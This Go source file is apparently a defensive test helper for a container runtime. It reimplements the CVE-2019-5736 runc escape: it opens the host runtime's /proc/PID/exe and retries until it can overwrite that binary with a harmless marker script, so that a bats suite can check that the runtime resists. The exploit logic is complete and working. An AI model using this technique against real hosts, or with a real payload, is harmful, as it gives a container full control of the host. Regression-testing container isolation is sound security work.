// Command attack runs inside a container and tries to escape the way the
// published runc exploits did, so security.bats can show that rt resists.
// It is a static binary copied into the test's rootfs.
//
//	attack exe-overwrite FIFO RESULT [WAIT]
//
// CVE-2019-5736: the container waits for the host's runtime to run inside
// it (security.bats plants a "#!/proc/self/exe --log=FIFO" script that the
// host then runs with `rt exec`, so the runtime binary itself starts in the
// container and blocks opening FIFO). It grabs the runtime's
// /proc/PID/exe with O_PATH, lets the runtime finish, then reopens the
// binary for writing through /proc/self/fd/N, retrying while the kernel
// says ETXTBSY, and overwrites it. RESULT gets one line: "overwrote" or
// "refused: <errno>", plus the attempts made on the way, or "error: no
// process ..." when no runtime ran in the container within WAIT (a Go
// duration, 30s by default).
package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// payload replaces the runtime binary if the attack works: any later use
// of the runtime on the host would then run the container's code.
const payload = "#!/bin/sh\necho host runtime replaced by a container >&2\nexit 42\n"

func main() {
	if (len(os.Args) == 4 || len(os.Args) == 5) && os.Args[1] == "exe-overwrite" {
		wait := 30 * time.Second
		if len(os.Args) == 5 {
			d, err := time.ParseDuration(os.Args[4])
			if err != nil {
				fmt.Fprintln(os.Stderr, "attack:", err)
				os.Exit(2)
			}
			wait = d
		}
		res, err := exeOverwrite(os.Args[2], os.Args[3], wait)
		if err != nil {
			res = "error: " + err.Error()
		}
		if werr := writeResult(os.Args[3], res); werr != nil {
			fmt.Fprintln(os.Stderr, "attack:", werr)
			os.Exit(1)
		}
		return
	}
	fmt.Fprintln(os.Stderr, "usage: attack exe-overwrite FIFO RESULT [WAIT]")
	os.Exit(2)
}

func exeOverwrite(fifo, result string, wait time.Duration) (string, error) {
	if err := unix.Mkfifo(fifo, 0o666); err != nil {
		return "", fmt.Errorf("mkfifo %s: %w", fifo, err)
	}
	// Tell the test it may now run the runtime in the container.
	if err := writeResult(result+".ready", "ready"); err != nil {
		return "", err
	}
	pid, err := findRuntime("--log="+fifo, wait)
	if err != nil {
		return "", err
	}
	exe := "/proc/" + strconv.Itoa(pid) + "/exe"
	fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return "refused: open " + exe + ": " + errName(err), nil
	}
	var notes []string
	if target, err := os.Readlink(exe); err == nil {
		notes = append(notes, "exe is "+target)
	}
	// While the runtime still runs, the direct route.
	if wfd, err := unix.Open(exe, unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0); err == nil {
		unix.Close(wfd)
		notes = append(notes, "direct open for writing worked")
	} else {
		notes = append(notes, "direct open: "+errName(err))
	}
	// Let the runtime go: it only wanted to open its log.
	r, err := os.Open(fifo)
	if err != nil {
		return "", fmt.Errorf("open fifo: %w", err)
	}
	io.Copy(io.Discard, r)
	r.Close()
	// The binary stays busy (ETXTBSY) until every process running it has
	// exited, the host's `rt exec` included, hence the retries.
	self := "/proc/self/fd/" + strconv.Itoa(fd)
	deadline := time.Now().Add(20 * time.Second)
	for {
		wfd, err := unix.Open(self, unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0)
		if err == nil {
			_, werr := unix.Write(wfd, []byte(payload))
			unix.Close(wfd)
			if werr != nil {
				return "refused: write: " + errName(werr) + "; " + strings.Join(notes, "; "), nil
			}
			return "overwrote; " + strings.Join(notes, "; "), nil
		}
		if !errors.Is(err, unix.ETXTBSY) || time.Now().After(deadline) {
			return "refused: " + errName(err) + "; " + strings.Join(notes, "; "), nil
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// findRuntime waits for a process whose argv holds marker.
func findRuntime(marker string, wait time.Duration) (int, error) {
	deadline := time.Now().Add(wait)
	for time.Now().Before(deadline) {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, d := range dirs {
			pid, err := strconv.Atoi(filepath.Base(d))
			if err != nil || pid == os.Getpid() {
				continue
			}
			b, err := os.ReadFile(d + "/cmdline")
			if err != nil {
				continue
			}
			for _, a := range strings.Split(string(b), "\x00") {
				if a == marker {
					return pid, nil
				}
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	return 0, fmt.Errorf("no process with %q in its arguments appeared", marker)
}

// errName is "EROFS (read-only file system)" for an errno.
func errName(err error) string {
	var errno unix.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno) + " (" + errno.Error() + ")"
	}
	return err.Error()
}

// writeResult replaces path atomically, so a reader never sees half a line.
func writeResult(path, line string) error {
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, []byte(line+"\n"), 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}
